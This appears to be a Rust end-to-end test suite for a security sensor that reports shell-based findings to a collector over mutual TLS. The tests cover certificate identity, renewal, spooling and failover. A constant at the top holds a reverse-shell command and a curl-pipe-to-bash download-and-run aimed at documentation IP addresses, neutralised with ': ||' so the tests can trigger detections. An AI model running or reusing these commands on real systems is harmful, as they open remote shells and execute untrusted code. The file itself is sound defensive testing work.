//! The sensor's way to its collector: TLS in both directions, certificates renewed, and findings that outlive both.

use std::{fs, path::Path};

use e2e::{
    certificate::{Authority, Files},
    collectors,
    daemon::{self, Daemon},
    node::Node,
    shell,
};
use serde_json::Value;

/// Malicious by any model, and inert: `:` runs instead.
const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";

fn attack(number: usize) {
    shell::run("/bin/bash", &["-c", &format!("{ATTACK} # {number}")]).expect("a shell");
}

fn path(path: &Path) -> &str {
    path.to_str().expect("a path")
}

/// A collector that proves who it is, and asks the same of sensors where `clients` is given.
fn collector(dir: &Path, files: &Files, clients: Option<&Path>) -> (Daemon, u16) {
    let mut args = vec!["--tls-cert", path(&files.certificate), "--tls-key", path(&files.key)];
    if let Some(clients) = clients {
        args.extend(["--tls-client-ca", path(clients)]);
    }
    collectors::start_with(dir, "tls-port", 0, &args).expect("a collector")
}

fn findings(dir: &Path) -> Vec<Value> {
    collectors::findings(dir).expect("findings")
}

/// A sensor that delivers to this port over TLS, with these arguments besides. Its own collector stays idle.
fn sensor(port: u16, args: &[&str]) -> Node {
    Node::start_to(&[&format!("https://localhost:{port}")], args).expect("a node")
}

#[test]
fn a_certificate_is_a_nodes_and_may_not_speak_for_another() {
    let dir = tempfile::tempdir().expect("a directory");
    let authority = Authority::new("ours").expect("an authority");
    let ca = authority.write(dir.path(), "ca.pem").expect("a file");
    let server = authority.issue(dir.path(), "server", "localhost", 24).expect("a certificate");
    let own = authority.issue(dir.path(), "node", "node-1", 24).expect("a certificate");
    let (_collector, port) = collector(dir.path(), &server, Some(&ca));
    let identity = ["--tls-ca", path(&ca), "--tls-cert", path(&own.certificate), "--tls-key", path(&own.key)];

    // As itself it delivers.
    let node = sensor(port, &[&identity[..], &["--node", "node-1"]].concat());
    attack(1);
    node.wait_until(|| findings(dir.path()).len() == 1).expect("a finding");
    drop(node);

    // As another it is refused, and keeps what it has.
    let node = sensor(port, &[&identity[..], &["--node", "node-2"]].concat());
    attack(2);
    node.wait_for_log("the client's certificate is for [\"node-1\"], not for node \"node-2\"")
        .expect("a refusal");
    assert_eq!(findings(dir.path()).len(), 1);
    assert_eq!(node.reading("spool_findings").expect("a reading"), 1);
    drop(node);

    // Without a certificate it does not come in.
    let node = sensor(port, &["--tls-ca", path(&ca)]);
    attack(3);
    node.wait_for_log("give one with --tls-cert and --tls-key").expect("a refusal");
    assert_eq!(findings(dir.path()).len(), 1);
}

#[test]
fn what_is_wrong_with_a_collectors_certificate_is_said_with_the_remedy() {
    let dir = tempfile::tempdir().expect("a directory");
    let (authority, stranger) =
        (Authority::new("ours").expect("one"), Authority::new("another").expect("another"));
    let ca = authority.write(dir.path(), "ca.pem").expect("a file");
    for (name, files, says) in [
        (
            "expired",
            authority.issue(dir.path(), "expired", "localhost", -1),
            "certificate has expired, or a clock is wrong",
        ),
        (
            "other",
            authority.issue(dir.path(), "other", "other.example", 24),
            "certificate is for another name",
        ),
        (
            "unknown",
            stranger.issue(dir.path(), "unknown", "localhost", 24),
            "nobody trusted issued the collector's certificate",
        ),
    ] {
        let at = dir.path().join(name);
        fs::create_dir(&at).expect("a directory");
        let (_collector, port) = collector(&at, &files.expect("a certificate"), None);
        let node = sensor(port, &["--tls-ca", path(&ca)]);
        node.wait_for_log(says).expect("the reason");
    }
    // By the name in the certificate it is the right one.
    let at = dir.path().join("named");
    fs::create_dir(&at).expect("a directory");
    let files = authority.issue(dir.path(), "named", "other.example", 24).expect("a certificate");
    let (_collector, port) = collector(&at, &files, None);
    let node = sensor(port, &["--tls-ca", path(&ca), "--tls-server-name", "other.example"]);
    attack(4);
    node.wait_until(|| findings(&at).len() == 1).expect("a finding");
}

#[test]
fn renewed_certificates_are_used_without_a_restart() {
    let dir = tempfile::tempdir().expect("a directory");
    let (old, new) = (Authority::new("ours").expect("one"), Authority::new("another").expect("another"));
    // One file trusts both, so that only the certificates change hands.
    let ca = dir.path().join("ca.pem");
    let both = [old.write(dir.path(), "old.pem"), new.write(dir.path(), "new.pem")];
    let text: String =
        both.iter().map(|p| fs::read_to_string(p.as_ref().expect("a file")).expect("PEM")).collect();
    fs::write(&ca, text).expect("a file");
    let new_only = dir.path().join("new.pem");
    let server = old.issue(dir.path(), "server", "localhost", 24).expect("a certificate");
    let own = old.issue(dir.path(), "node", "node-1", 24).expect("a certificate");
    let (_collector, port) = collector(dir.path(), &server, Some(&ca));
    let node = sensor(
        port,
        &[
            "--tls-ca",
            path(&ca),
            "--tls-cert",
            path(&own.certificate),
            "--tls-key",
            path(&own.key),
            "--node",
            "node-1",
        ],
    );
    attack(5);
    node.wait_until(|| findings(dir.path()).len() == 1).expect("a finding");
    // Everything is renewed by the new authority, and the old one is trusted no more.
    new.issue(dir.path(), "server", "localhost", 24).expect("a certificate");
    new.issue(dir.path(), "node", "node-1", 24).expect("a certificate");
    fs::copy(&new_only, &ca).expect("a copy");
    node.wait_for_log("the certificate or token was renewed: connecting anew").expect("a new connection");
    attack(6);
    node.wait_until(|| findings(dir.path()).len() == 2).expect("another finding");
}

#[test]
fn a_sensor_that_is_killed_delivers_what_it_had_when_it_comes_again() {
    let mut node = Node::start(&[]).expect("a node");
    node.collector.kill().expect("a kill");
    for number in 10..15 {
        attack(number);
    }
    node.wait_for_reading("findings_spooled_total", 5).expect("findings");
    node.sensor.kill().expect("a kill");
    let port: u16 = fs::read_to_string(node.path("port")).expect("a port").parse().expect("a number");
    node.collector = collectors::start(node.dir.path(), port).expect("a collector").0;
    node.restart_sensor().expect("a sensor");
    let findings = node.wait_for(|all| all.len() == 5).expect("findings");
    assert_eq!(findings.len(), 5);
    node.wait_for_reading("spool_findings", 0).expect("an empty spool");
}

#[test]
fn a_collector_knows_how_its_sensors_are() {
    let mut node = Node::start(&["--max-shells", "2"]).expect("a node");
    let dir = node.dir.path().to_owned();
    let nodes = |state: &str| collectors::nodes(&dir, &["--state", state]).expect("nodes");
    daemon::wait_until("the sensor", || nodes("ok").len() == 1);
    attack(1);
    node.wait_for(|all| all.len() == 1).expect("a finding");
    // One more shell than are followed at once.
    shell::run("/bin/bash", &["-c", "/bin/bash -c /bin/true; true"]).expect("shells");
    daemon::wait_until("an impaired one", || nodes("impaired").len() == 1);
    let told = &nodes("impaired,silent")[0];
    let reasons = told["impairments"].as_array().expect("reasons");
    assert!(reasons.contains(&"shells_not_followed".into()), "{told}");
    assert_eq!(told["waiting_findings"], 0, "{told}");
    assert!(told["stored_findings"].as_u64() >= Some(1), "{told}");
    node.sensor.stop().expect("a stop");
    daemon::wait_until("a stopped one", || nodes("stopped").len() == 1);
    assert!(nodes("ok,impaired,silent").is_empty());
}

#[test]
fn the_next_collector_is_tried_when_one_is_dead() {
    let dead = std::net::TcpListener::bind("127.0.0.1:0").and_then(|l| l.local_addr()).expect("a port");
    let dir = tempfile::tempdir().expect("a directory");
    let (_collector, port) = collectors::start(dir.path(), 0).expect("a collector");
    let node = Node::start_to(&[&format!("http://{dead},http://127.0.0.1:{port}")], &[]).expect("a node");
    attack(20);
    node.wait_until(|| findings(dir.path()).len() == 1).expect("a finding");
}

#[test]
fn a_collector_ends_a_stream_of_age_and_the_sensor_goes_on_with_the_next() {
    let dirs = [(); 2].map(|()| tempfile::tempdir().expect("a directory"));
    let two = collectors::Two::start([dirs[0].path(), dirs[1].path()]).expect("two collectors");
    let node = Node::start_to(&[&two.uris], &[]).expect("a node");
    let made = std::cell::Cell::new(0);
    let stored = || dirs.iter().map(|dir| findings(dir.path())).collect::<Vec<_>>();
    node.wait_until(|| {
        attack(30 + made.get());
        made.set(made.get() + 1);
        stored().iter().all(|of_one| !of_one.is_empty())
    })
    .expect("findings in both");
    node.wait_until(|| stored().concat().len() >= made.get()).expect("all of them");
    node.wait_for_reading("spool_findings", 0).expect("an empty spool");
    // Each in one of them, for streams that end have acknowledged what they took in.
    let names: std::collections::BTreeSet<String> =
        stored().concat().iter().map(|finding| finding["name"].to_string()).collect();
    assert_eq!((names.len(), stored().concat().len()), (made.get(), made.get()), "{}", node.log());
    assert!(!node.log().contains("trying again"), "{}", node.log());
}

#[test]
fn a_collector_without_certificates_wants_to_be_told_that_it_is_meant() {
    let output =
        std::process::Command::new(daemon::bin().join("collector")).arg("serve").output().expect("it runs");
    let text = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success());
    assert!(text.contains("--tls-cert"), "{text}");
}
